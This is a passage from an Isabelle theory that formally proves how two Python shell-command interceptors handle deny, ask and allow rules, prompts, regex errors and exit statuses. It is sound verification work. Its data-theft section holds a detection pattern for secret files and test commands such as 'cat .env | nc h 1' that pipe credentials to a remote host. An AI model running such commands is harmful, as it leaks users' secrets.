  answer false but raises, and \<open>main\<close> in check-only mode ends with the uncaught
  \<open>re.error\<close> instead of a decision.
\<close>

theorem C3_malformed_regex_counterexample:
  "match_pattern re_search ''ls -la'' ''ls:regex:('' = Inl ReError
   \<and> main_body re_search False ''ls -la''
        [(''deny'', [[(''pattern'', ''ls:regex:('')]]), (''ask'', []), (''allow'', [])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [], prompts = 0, runs = []\<rparr>"
  by (simp add: main_body_def match_eval re_eval)

section \<open>The ask tier (intercept-enhanced.py)\<close>

text \<open>
  Claim C4, amended. In check-only mode, let every deny rule answer false, and let \<open>rule\<close>
  be the first ask rule whose pattern does not answer false. If the pattern of \<open>rule\<close>
  matches and \<open>rule\<close> is not the empty dictionary, \<open>main\<close> logs \<open>ALLOWED_ASK_DEFERRED\<close> with
  the reason of that rule and exits with status 0; it calls \<open>input\<close> not once and runs
  nothing. If the pattern of \<open>rule\<close> raises, or the deny tier raises, \<open>main\<close> ends with the
  uncaught exception. The program has no harm heuristics.

  The amended claim says nothing of an ask rule that is the empty dictionary. The theorem
  records what the code does with it: the test \<open>if ask_rule:\<close> fails and \<open>main\<close> goes on
  to the allow tier as if no ask rule had matched.
\<close>

theorem C4_ask_deferred_in_check_mode:
  assumes "dict_get config ''ask'' [] = pre @ rule # post"
    and "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
  shows "((\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False)
          \<and> match_pattern rx command (dict_get rule ''pattern'' '''') = Inr True
          \<and> rule \<noteq> [] \<longrightarrow>
            main_body rx False command config inp run =
              \<lparr>status = Exit 0,
               log = [(command, ''ALLOWED_ASK_DEFERRED'', dict_get rule ''reason'' '''')],
               prompts = 0, runs = []\<rparr>)
       \<and> ((\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False)
          \<and> match_pattern rx command (dict_get rule ''pattern'' '''') = Inr True
          \<and> rule = [] \<longrightarrow>
            main_body rx False command config inp run =
              allow_tier rx False command config run [] 0)
       \<and> ((\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False)
          \<and> match_pattern rx command (dict_get rule ''pattern'' '''') = Inl e \<longrightarrow>
            main_body rx False command config inp run =
              \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)
       \<and> (find_matching_rule rx command (dict_get config ''deny'' []) = Inl e \<longrightarrow>
            main_body rx False command config inp run =
              \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)"
proof -
  have d: "find_matching_rule rx command (dict_get config ''deny'' []) = Inr None"
    if "\<forall>r \<in> set (dict_get config ''deny'' []).
          match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    using that by (rule find_matching_rule_none)
  have a: "find_matching_rule rx command (dict_get config ''ask'' []) = Inr (Some rule)"
    if "match_pattern rx command (dict_get rule ''pattern'' '''') = Inr True"
    using assms that by (simp add: find_matching_rule_first)
  have b: "find_matching_rule rx command (dict_get config ''ask'' []) = Inl e"
    if "match_pattern rx command (dict_get rule ''pattern'' '''') = Inl e"
    using assms that by (simp add: find_matching_rule_raises)
  show ?thesis
    using d a b by (auto simp: main_body_def truthy_def)
qed

theorem C4_ask_deferred_in_check_mode_witness:
  "main_body re_search False ''npm install left-pad''
     [(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''git:push'')],
                 [(''pattern'', ''npm:install''), (''reason'', ''Installs packages'')]]),
      (''allow'', [[(''pattern'', ''ls:*'')]])]
     EndOfInput (\<lambda>c. Returned 0) =
   \<lparr>status = Exit 0,
    log = [(''npm install left-pad'', ''ALLOWED_ASK_DEFERRED'', ''Installs packages'')],
    prompts = 0, runs = []\<rparr>"
proof -
  let ?config = "[(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''git:push'')],
                 [(''pattern'', ''npm:install''), (''reason'', ''Installs packages'')]]),
      (''allow'', [[(''pattern'', ''ls:*'')]])]"
  let ?rule = "[(''pattern'', ''npm:install''), (''reason'', ''Installs packages'')]"
  have d: "\<forall>r \<in> set (dict_get ?config ''deny'' []).
             match_pattern re_search ''npm install left-pad'' (dict_get r ''pattern'' '''')
               = Inr False"
    by (simp add: match_eval)
  have a: "dict_get ?config ''ask'' [] = [[(''pattern'', ''git:push'')]] @ ?rule # []"
    by (simp add: dict_get_def)
  have p: "\<forall>r \<in> set [[(''pattern'', ''git:push'')]].
             match_pattern re_search ''npm install left-pad'' (dict_get r ''pattern'' '''')
               = Inr False"
    by (simp add: match_eval)
  have m: "match_pattern re_search ''npm install left-pad'' (dict_get ?rule ''pattern'' '''')
             = Inr True"
    by (simp add: match_eval)
  have n: "?rule \<noteq> []"
    by simp
  show ?thesis
    using C4_ask_deferred_in_check_mode [OF a p, where inp = EndOfInput
            and run = "\<lambda>c. Returned 0" and e = ReError] d m n
    by (simp add: dict_get_def)
qed

text \<open>
  Without the amendment the statement fails, at two inputs. The empty command with no deny
  rule and the empty dictionary as the only ask rule: the ask rule matches, and \<open>main\<close>
  logs \<open>ALLOWED_DEFAULT\<close>. The command \<open>ls -la\<close> with the deny rule \<open>ls:regex:(\<close> and the ask
  rule \<open>ls:*\<close>: the deny rule does not match, the ask rule does, and \<open>main\<close> ends with the
  uncaught \<open>re.error\<close>.
\<close>

theorem C4_ask_not_deferred_counterexample:
  "match_pattern re_search '''' (dict_get [] ''pattern'' '''') = Inr True
   \<and> main_body re_search False '''' [(''deny'', []), (''ask'', [[]]), (''allow'', [])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Exit 0, log = [('''', ''ALLOWED_DEFAULT'', ''No matching rule'')],
        prompts = 0, runs = []\<rparr>
   \<and> match_pattern re_search ''ls -la'' ''ls:regex:('' = Inl ReError
   \<and> match_pattern re_search ''ls -la'' ''ls:*'' = Inr True
   \<and> main_body re_search False ''ls -la''
        [(''deny'', [[(''pattern'', ''ls:regex:('')]]),
         (''ask'', [[(''pattern'', ''ls:*'')]]), (''allow'', [])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [], prompts = 0, runs = []\<rparr>"
  by (simp add: main_body_def allow_tier_def finish_main_def truthy_def match_eval re_eval)

text \<open>
  In execute mode the same situation leads to the prompt. \<open>print_ask_message\<close> answers
  yes only for a line that is \<open>y\<close> once stripped and lowered; the end of the input and an
  interrupt are caught there and answer no. On yes the command is handed to the executor
  once, on no \<open>main\<close> logs \<open>DENIED_BY_USER\<close> and exits with status 1 having run nothing.
\<close>

lemma ask_tier_in_execute_mode:
  assumes "\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    and "dict_get config ''ask'' [] = pre @ rule # post"
    and "\<forall>r \<in> set pre. match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
    and "match_pattern rx command (dict_get rule ''pattern'' '''') = Inr True"
    and "rule \<noteq> []"
  shows "main_body rx True command config inp run =
           (if print_ask_message rule command inp
            then allow_tier rx True command config run
                   [(command, ''APPROVED_BY_USER'', dict_get rule ''reason'' '''')] 1
            else \<lparr>status = Exit 1,
                  log = [(command, ''DENIED_BY_USER'', dict_get rule ''reason'' '''')],
                  prompts = 1, runs = []\<rparr>)"
proof -
  have d: "find_matching_rule rx command (dict_get config ''deny'' []) = Inr None"
    using assms(1) by (rule find_matching_rule_none)
  have a: "find_matching_rule rx command (dict_get config ''ask'' []) = Inr (Some rule)"
    using assms(2-4) by (simp add: find_matching_rule_first)
  show ?thesis
    using d a assms(5) by (simp add: main_body_def truthy_def)
qed

text \<open>
  After the approval the allow tier is read for the log, and unless a pattern of that tier
  raises, the command is handed to the executor exactly once, after the entry
  \<open>APPROVED_BY_USER\<close>.
\<close>

lemma allow_tier_runs_once:
  assumes "find_matching_rule rx command (dict_get config ''allow'' []) = Inr allow_rule"
  shows "runs (allow_tier rx True command config run logged asked) = [command]
       \<and> prompts (allow_tier rx True command config run logged asked) = asked
       \<and> take (length logged) (log (allow_tier rx True command config run logged asked))
           = logged"
  using assms
  by (simp add: allow_tier_def finish_main_def split: run_result.splits)

lemma prompt_answers:
  "print_ask_message rule command (Line ''y'')"
  "print_ask_message rule command (Line '' Y '')"
  "\<not> print_ask_message rule command (Line ''yes'')"
  "\<not> print_ask_message rule command (Line '''')"
  "\<not> print_ask_message rule command EndOfInput"
  "\<not> print_ask_message rule command Interrupt"
  by (simp_all add: print_ask_message_def str_lower_def str_strip_def isspace_def
                    to_lower_def isupper_def)

text \<open>
  Claim C5. The claim holds for intercept-enhanced.py, as the three lemmas above say, and
  fails for intercept.py, whose call of \<open>input\<close> stands in no \<open>try\<close>. The command
  \<open>npm install left-pad\<close> passes the two blocking checks and needs confirmation; when the
  input is at its end, \<open>main\<close> of intercept.py does not deny: \<open>EOFError\<close> leaves it
  uncaught, and neither \<open>CANCELLED\<close> nor anything else is logged.
\<close>

theorem C5_prompt_end_of_input_uncaught:
  "main re_search None [''npm'', ''install'', ''left-pad''] EndOfInput (\<lambda>c. Returned 0) =
     \<lparr>status = Uncaught EOFError, log = [], prompts = 1, runs = []\<rparr>"
proof -
  have b: "is_blocked re_search ''npm install left-pad'' = Inr (False, '''')"
    by (simp add: is_blocked_def str_split_def BLOCKED_COMMANDS_def DANGEROUS_PATTERNS_def
                  re_eval)
  have t: "is_data_theft re_search None ''npm install left-pad'' = Inr (False, '''')"
    by (simp add: is_data_theft_def ENABLE_DATA_THEFT_PREVENTION_def str_lower_def
                  to_lower_def isupper_def)
  have c: "needs_confirmation ''npm install left-pad'' = (True, ''npm install'')"
    by (simp add: needs_confirmation_def str_split_def isspace_def CONFIRM_COMMANDS_def)
  show ?thesis
    using b t c by (simp add: main_def)
qed

section \<open>Default allow (intercept-enhanced.py)\<close>

text \<open>
  Claim C6, amended. Let no rule of the deny, ask and allow tiers match the command. If
  every rule answers false, \<open>main\<close> logs \<open>ALLOWED_DEFAULT\<close> as its decision in both modes:
  in check-only mode this is all, status 0, no prompt, nothing run; in execute mode the
  command is then run once, and the process ends as the run decides. If instead the
  pattern of some rule raises, \<open>main\<close> ends with an uncaught exception in both modes,
  having logged nothing and run nothing.
\<close>

theorem C6_default_allow:
  assumes "\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get config tier []).
             match_pattern rx command (dict_get r ''pattern'' '''') \<noteq> Inr True"
  shows "((\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get config tier []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False) \<longrightarrow>
           main_body rx False command config inp run =
             \<lparr>status = Exit 0, log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
              prompts = 0, runs = []\<rparr>
         \<and> main_body rx True command config inp run =
             (case run command of
                Returned returncode \<Rightarrow>
                  \<lparr>status = Exit returncode,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
                   prompts = 0, runs = [command]\<rparr>
              | StartFailure msg \<Rightarrow>
                  \<lparr>status = Exit 1,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule''),
                          (command, ''ERROR'', msg)],
                   prompts = 0, runs = [command]\<rparr>
              | RunInterrupted \<Rightarrow>
                  \<lparr>status = Uncaught KeyboardInterrupt,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
                   prompts = 0, runs = [command]\<rparr>))
       \<and> ((\<exists>tier \<in> {''deny'', ''ask'', ''allow''}. \<exists>r \<in> set (dict_get config tier []).
             \<exists>e. match_pattern rx command (dict_get r ''pattern'' '''') = Inl e) \<longrightarrow>
           (\<exists>e. main_body rx exec_mode command config inp run =
                  \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>))"
proof -
  have d: "\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') \<noteq> Inr True"
    and a: "\<forall>r \<in> set (dict_get config ''ask'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') \<noteq> Inr True"
    and l: "\<forall>r \<in> set (dict_get config ''allow'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') \<noteq> Inr True"
    using assms by simp_all
  note fd = find_matching_rule_no_match [OF d]
    and fa = find_matching_rule_no_match [OF a]
    and fl = find_matching_rule_no_match [OF l]
  have calm: "main_body rx False command config inp run =
             \<lparr>status = Exit 0, log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
              prompts = 0, runs = []\<rparr>
         \<and> main_body rx True command config inp run =
             (case run command of
                Returned returncode \<Rightarrow>
                  \<lparr>status = Exit returncode,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
                   prompts = 0, runs = [command]\<rparr>
              | StartFailure msg \<Rightarrow>
                  \<lparr>status = Exit 1,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule''),
                          (command, ''ERROR'', msg)],
                   prompts = 0, runs = [command]\<rparr>
              | RunInterrupted \<Rightarrow>
                  \<lparr>status = Uncaught KeyboardInterrupt,
                   log = [(command, ''ALLOWED_DEFAULT'', ''No matching rule'')],
                   prompts = 0, runs = [command]\<rparr>)"
    if "\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get config tier []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
  proof -
    have "find_matching_rule rx command (dict_get config ''deny'' []) = Inr None"
         "find_matching_rule rx command (dict_get config ''ask'' []) = Inr None"
         "find_matching_rule rx command (dict_get config ''allow'' []) = Inr None"
      using that by (simp_all add: find_matching_rule_none)
    then show ?thesis
      by (simp add: main_body_def allow_tier_def truthy_def finish_main_def
               split: run_result.splits)
  qed
  have storm: "\<exists>e. main_body rx exec_mode command config inp run =
                  \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>"
    if "\<exists>tier \<in> {''deny'', ''ask'', ''allow''}. \<exists>r \<in> set (dict_get config tier []).
             \<exists>e. match_pattern rx command (dict_get r ''pattern'' '''') = Inl e"
  proof (cases "find_matching_rule rx command (dict_get config ''deny'' [])")
    case (Inl e)
    then show ?thesis by (auto simp: main_body_def)
  next
    case dn: (Inr dr)
    with fd have dn': "find_matching_rule rx command (dict_get config ''deny'' []) = Inr None"
      and dall: "\<forall>r \<in> set (dict_get config ''deny'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
      by auto
    show ?thesis
    proof (cases "find_matching_rule rx command (dict_get config ''ask'' [])")
      case (Inl e)
      with dn' show ?thesis by (auto simp: main_body_def truthy_def)
    next
      case an: (Inr ar)
      with fa have an': "find_matching_rule rx command (dict_get config ''ask'' []) = Inr None"
        and aall: "\<forall>r \<in> set (dict_get config ''ask'' []).
             match_pattern rx command (dict_get r ''pattern'' '''') = Inr False"
        by auto
      from that dall aall
      have "\<exists>r \<in> set (dict_get config ''allow'' []).
             \<exists>e. match_pattern rx command (dict_get r ''pattern'' '''') = Inl e"
        by auto
      with fl obtain e where "find_matching_rule rx command (dict_get config ''allow'' []) = Inl e"
        by auto
      with dn' an' show ?thesis
        by (auto simp: main_body_def truthy_def allow_tier_def)
    qed
  qed
  show ?thesis
    using calm storm by blast
qed

theorem C6_default_allow_witness:
  "main_body re_search False ''ls -la''
     [(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''npm:install'')]]),
      (''allow'', [[(''pattern'', ''git:status'')]])]
     EndOfInput (\<lambda>c. Returned 0) =
   \<lparr>status = Exit 0, log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
    prompts = 0, runs = []\<rparr>
   \<and> main_body re_search True ''ls -la''
     [(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''npm:install'')]]),
      (''allow'', [[(''pattern'', ''git:status'')]])]
     EndOfInput (\<lambda>c. Returned 3) =
   \<lparr>status = Exit 3, log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
    prompts = 0, runs = [''ls -la'']\<rparr>
   \<and> (\<exists>e. main_body re_search True ''ls -la''
     [(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''npm:install'')]]),
      (''allow'', [[(''pattern'', ''ls:regex:('')]])]
     EndOfInput (\<lambda>c. Returned 3) =
   \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>)"
proof -
  let ?config = "[(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''npm:install'')]]),
      (''allow'', [[(''pattern'', ''git:status'')]])]"
  let ?broken = "[(''deny'', [[(''pattern'', ''rm:-rf'')]]),
      (''ask'', [[(''pattern'', ''npm:install'')]]),
      (''allow'', [[(''pattern'', ''ls:regex:('')]])]"
  have h: "\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get ?config tier []).
             match_pattern re_search ''ls -la'' (dict_get r ''pattern'' '''') = Inr False"
    by (simp add: match_eval)
  then have n: "\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get ?config tier []).
             match_pattern re_search ''ls -la'' (dict_get r ''pattern'' '''') \<noteq> Inr True"
    by simp
  have nb: "\<forall>tier \<in> {''deny'', ''ask'', ''allow''}. \<forall>r \<in> set (dict_get ?broken tier []).
             match_pattern re_search ''ls -la'' (dict_get r ''pattern'' '''') \<noteq> Inr True"
    by (simp add: match_eval re_eval)
  have rb: "\<exists>tier \<in> {''deny'', ''ask'', ''allow''}. \<exists>r \<in> set (dict_get ?broken tier []).
             \<exists>e. match_pattern re_search ''ls -la'' (dict_get r ''pattern'' '''') = Inl e"
    by (simp add: match_eval re_eval)
  have w0: "main_body re_search False ''ls -la'' ?config EndOfInput (\<lambda>c. Returned 0) =
              \<lparr>status = Exit 0, log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
               prompts = 0, runs = []\<rparr>"
    using C6_default_allow [OF n, where inp = EndOfInput and run = "\<lambda>c. Returned 0"] h
    by blast
  have "main_body re_search True ''ls -la'' ?config EndOfInput (\<lambda>c. Returned 3) =
          (case Returned 3 of
             Returned returncode \<Rightarrow>
               \<lparr>status = Exit returncode,
                log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
                prompts = 0, runs = [''ls -la'']\<rparr>
           | StartFailure msg \<Rightarrow>
               \<lparr>status = Exit 1,
                log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule''),
                       (''ls -la'', ''ERROR'', msg)],
                prompts = 0, runs = [''ls -la'']\<rparr>
           | RunInterrupted \<Rightarrow>
               \<lparr>status = Uncaught KeyboardInterrupt,
                log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
                prompts = 0, runs = [''ls -la'']\<rparr>)"
    using C6_default_allow [OF n, where inp = EndOfInput and run = "\<lambda>c. Returned 3"] h
    by blast
  then have w3: "main_body re_search True ''ls -la'' ?config EndOfInput (\<lambda>c. Returned 3) =
              \<lparr>status = Exit 3, log = [(''ls -la'', ''ALLOWED_DEFAULT'', ''No matching rule'')],
               prompts = 0, runs = [''ls -la'']\<rparr>"
    by simp
  have wb: "\<exists>e. main_body re_search True ''ls -la'' ?broken EndOfInput (\<lambda>c. Returned 3) =
              \<lparr>status = Uncaught e, log = [], prompts = 0, runs = []\<rparr>"
    using C6_default_allow [OF nb, where inp = EndOfInput and run = "\<lambda>c. Returned 3"
            and exec_mode = True] rb
    by blast
  show ?thesis
    using w0 w3 wb by blast
qed

text \<open>
  Without the amendment the statement fails. With the single allow rule \<open>ls:regex:(\<close> the
  command \<open>ls -la\<close> matches no rule of any tier, and \<open>main\<close> in check-only mode does not
  resolve to \<open>ALLOWED_DEFAULT\<close> with status 0: it ends with the uncaught \<open>re.error\<close>.
\<close>

theorem C6_raising_rule_counterexample:
  "match_pattern re_search ''ls -la'' ''ls:regex:('' = Inl ReError
   \<and> main_body re_search False ''ls -la''
        [(''deny'', []), (''ask'', []), (''allow'', [[(''pattern'', ''ls:regex:('')]])]
        EndOfInput (\<lambda>c. Returned 0) =
       \<lparr>status = Uncaught ReError, log = [], prompts = 0, runs = []\<rparr>"
  by (simp add: main_body_def allow_tier_def finish_main_def truthy_def match_eval re_eval)

section \<open>Data theft (intercept.py)\<close>

text \<open>
  The switch is off unless the environment variable reads \<open>true\<close> in some spelling of
  case, and with the switch off \<open>is_data_theft\<close> answers false without a search.
\<close>

lemma toggle_values:
  "\<not> ENABLE_DATA_THEFT_PREVENTION None"
  "ENABLE_DATA_THEFT_PREVENTION (Some ''true'')"
  "ENABLE_DATA_THEFT_PREVENTION (Some ''TRUE'')"
  "\<not> ENABLE_DATA_THEFT_PREVENTION (Some ''1'')"
  by (simp_all add: ENABLE_DATA_THEFT_PREVENTION_def str_lower_def to_lower_def isupper_def)

lemma data_theft_disabled:
  "\<not> ENABLE_DATA_THEFT_PREVENTION env \<Longrightarrow> is_data_theft rx env command = Inr (False, '''')"
  by (simp add: is_data_theft_def)

text \<open>
  A sensitive path alone is not reported; with one of the verbs in the command it is.
\<close>

lemma sensitive_path_without_verb:
  "is_data_theft re_search (Some ''true'') ''ls ~/.ssh/'' = Inr (False, '''')"
  by (simp add: is_data_theft_def toggle_values DATA_THEFT_PATTERNS_def
                SENSITIVE_FILE_PATTERNS_def TRANSFER_VERBS_def re_eval)

lemma sensitive_path_with_verb:
  "is_data_theft re_search (Some ''true'') ''tar czf x ~/.kube/'' =
     Inr (True, ''Accessing sensitive file: ~?/?'' @ BS @ ''.kube/'')"
  by (simp add: is_data_theft_def toggle_values DATA_THEFT_PATTERNS_def
                SENSITIVE_FILE_PATTERNS_def TRANSFER_VERBS_def re_eval)

text \<open>
  Claim C7. The catalog patterns compile, so no search with them raises. Then
  \<open>is_data_theft\<close> answers true exactly when the switch is on and either a pattern of
  \<open>DATA_THEFT_PATTERNS\<close> is found in the whole command, or a pattern of
  \<open>SENSITIVE_FILE_PATTERNS\<close> is found in it and the command contains one of the verbs as a
  substring. So a sensitive path without a verb fires only through the first list, and
  with the switch off nothing fires.
\<close>

theorem C7_data_theft_check:
  assumes "\<forall>p \<in> set (DATA_THEFT_PATTERNS @ SENSITIVE_FILE_PATTERNS). \<exists>b. rx p command = Inr b"
  shows "\<exists>reason. is_data_theft rx env command =
           Inr (ENABLE_DATA_THEFT_PREVENTION env \<and>
                ((\<exists>p \<in> set DATA_THEFT_PATTERNS. rx p command = Inr True) \<or>
                 ((\<exists>p \<in> set SENSITIVE_FILE_PATTERNS. rx p command = Inr True) \<and>
                  (\<exists>verb \<in> set TRANSFER_VERBS. sublist verb command))), reason)"
proof -
  have t: "\<forall>p \<in> set DATA_THEFT_PATTERNS. \<exists>b. rx p command = Inr b"
    and s: "\<forall>p \<in> set SENSITIVE_FILE_PATTERNS. \<exists>b. rx p command = Inr b"
    using assms by auto
  obtain r where r: "first_search rx DATA_THEFT_PATTERNS command = Inr r"
      "(r \<noteq> None) = (\<exists>p \<in> set DATA_THEFT_PATTERNS. rx p command = Inr True)"
    using first_search_total [where rx = rx and ps = DATA_THEFT_PATTERNS and s = command] t
    by blast
  obtain q where q: "sensitive_search rx SENSITIVE_FILE_PATTERNS command = Inr q"
      "(q \<noteq> None) = ((\<exists>p \<in> set SENSITIVE_FILE_PATTERNS. rx p command = Inr True)
                       \<and> list_ex (\<lambda>op. str_in op command) TRANSFER_VERBS)"
    using sensitive_search_total
            [where rx = rx and ps = SENSITIVE_FILE_PATTERNS and s = command] s
    by blast
  have v: "list_ex (\<lambda>op. str_in op command) TRANSFER_VERBS
             = (\<exists>verb \<in> set TRANSFER_VERBS. sublist verb command)"
    by (simp add: list_ex_iff str_in_sublist)
  show ?thesis
    using r q v by (cases r; cases q) (auto simp: is_data_theft_def)
qed

theorem C7_data_theft_check_witness:
  "re_search (''cat.*('' @ BS @ ''.env|credentials|'' @ BS @ ''.aws|'' @ BS @ ''.ssh|''
                  @ BS @ ''.gnupg)'') ''cat .env | nc h 1'' = Inr True
   \<and> (\<exists>reason. is_data_theft re_search (Some ''true'') ''cat .env | nc h 1''
                  = Inr (True, reason))"
proof -
  have h: "\<forall>p \<in> set (DATA_THEFT_PATTERNS @ SENSITIVE_FILE_PATTERNS).
             \<exists>b. re_search p ''cat .env | nc h 1'' = Inr b"
    by (rule catalogs_never_raise(2))
  have m: "re_search (''cat.*('' @ BS @ ''.env|credentials|'' @ BS @ ''.aws|'' @ BS @ ''.ssh|''
                  @ BS @ ''.gnupg)'') ''cat .env | nc h 1'' = Inr True"
    by (simp add: re_eval)
  have i: "\<exists>p \<in> set DATA_THEFT_PATTERNS. re_search p ''cat .env | nc h 1'' = Inr True"
    using m by (simp add: DATA_THEFT_PATTERNS_def)
  show ?thesis
    using C7_data_theft_check [where rx = re_search and env = "Some ''true''"
                                 and command = "''cat .env | nc h 1''"]
          h m i toggle_values(2)
    by simp
qed

section \<open>Running the command\<close>

text \<open>In check-only mode intercept-enhanced.py never runs the command.\<close>

lemma check_only_runs_nothing:
  "runs (main_body rx False command config inp run) = []"
  by (simp add: main_body_def allow_tier_def finish_main_def split: sum.splits option.splits)

text \<open>
  Claim C8, amended. Whenever a run of either interceptor hands the command to the
  executor and the executor returns a status, the program passes exactly that status to
  \<open>sys.exit\<close>. The status of the process is then that number modulo 256: it is the
  returned status itself exactly when that lies between 0 and 255, and it differs for the
  negative return code of a command that a signal killed. When the executor cannot be
  started, intercept-enhanced.py logs \<open>ERROR\<close> with the text of the exception and exits
  with status 1: a status that is not zero, and that a command which itself exits with 1
  gives as well.
\<close>

theorem C8_exit_status_of_a_run:
  "(runs (main_body rx True command config inp run) \<noteq> [] \<and> run command = Returned returncode
      \<longrightarrow> status (main_body rx True command config inp run) = Exit returncode
          \<and> process_exit_status (status (main_body rx True command config inp run))
              = Some (returncode mod 256)
          \<and> ((process_exit_status (status (main_body rx True command config inp run))
                = Some returncode) = (0 \<le> returncode \<and> returncode \<le> 255)))
   \<and> (runs (main_body rx True command config inp run) \<noteq> [] \<and> run command = StartFailure msg
      \<longrightarrow> status (main_body rx True command config inp run) = Exit 1
          \<and> process_exit_status (status (main_body rx True command config inp run)) = Some 1
          \<and> last (log (main_body rx True command config inp run)) = (command, ''ERROR'', msg))
   \<and> (runs (main rx env argv inp run) \<noteq> [] \<and> run (str_join '' '' argv) = Returned returncode
      \<longrightarrow> status (main rx env argv inp run) = Exit returncode
          \<and> process_exit_status (status (main rx env argv inp run)) = Some (returncode mod 256)
          \<and> ((process_exit_status (status (main rx env argv inp run)) = Some returncode)
               = (0 \<le> returncode \<and> returncode \<le> 255)))"
proof -
  have range: "(returncode mod 256 = returncode) = (0 \<le> returncode \<and> returncode \<le> 255)"
    by (auto simp: zmod_trivial_iff)
  have e: "status (main_body rx True command config inp run) = Exit returncode"
    if "runs (main_body rx True command config inp run) \<noteq> []"
      and "run command = Returned returncode"
    using that
    by (auto simp: main_body_def allow_tier_def finish_main_def
             split: sum.splits option.splits if_splits)
  have f: "status (main_body rx True command config inp run) = Exit 1
           \<and> last (log (main_body rx True command config inp run)) = (command, ''ERROR'', msg)"
    if "runs (main_body rx True command config inp run) \<noteq> []"
      and "run command = StartFailure msg"
    using that
    by (auto simp: main_body_def allow_tier_def finish_main_def
             split: sum.splits option.splits if_splits)
  have g: "status (main rx env argv inp run) = Exit returncode"
    if "runs (main rx env argv inp run) \<noteq> []"
      and "run (str_join '' '' argv) = Returned returncode"
    using that
    by (auto simp: main_def execute_def Let_def
             split: sum.splits if_splits input_result.splits prod.splits)
  show ?thesis
    using e f g range by auto
qed

theorem C8_exit_status_of_a_run_witness:
  "runs (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. Returned 2)) \<noteq> []
   \<and> runs (main re_search None [''make'', ''test''] EndOfInput (\<lambda>c. Returned 2)) \<noteq> []
   \<and> runs (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. StartFailure ''no shell''))
       \<noteq> []
   \<and> status (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. Returned 2)) = Exit 2
   \<and> process_exit_status
       (status (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. Returned 2))) = Some 2
   \<and> status (main re_search None [''make'', ''test''] EndOfInput (\<lambda>c. Returned 2)) = Exit 2
   \<and> process_exit_status
       (status (main re_search None [''make'', ''test''] EndOfInput (\<lambda>c. Returned 2))) = Some 2
   \<and> status (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. StartFailure ''no shell''))
       = Exit 1"
proof -
  have a: "runs (main_body re_search True ''make test'' [] EndOfInput (\<lambda>c. Returned 2)) \<noteq> []"
    by (simp add: main_body_def allow_tier_def finish_main_def dict_get_def truthy_def)
  have s: "runs (main_body re_search True ''make test'' [] EndOfInput
                   (\<lambda>c. StartFailure ''no shell'')) \<noteq> []"
    by (simp add: main_body_def allow_tier_def finish_main_def dict_get_def truthy_def)
  have b: "is_blocked re_search ''make test'' = Inr (False, '''')"
    by (simp add: is_blocked_def str_split_def BLOCKED_COMMANDS_def DANGEROUS_PATTERNS_def
                  re_eval)
  have t: "is_data_theft re_search None ''make test'' = Inr (False, '''')"
    by (simp add: is_data_theft_def ENABLE_DATA_THEFT_PREVENTION_def str_lower_def
                  to_lower_def isupper_def)
  have c: "needs_confirmation ''make test'' = (False, '''')"
    by (simp add: needs_confirmation_def str_split_def isspace_def CONFIRM_COMMANDS_def)
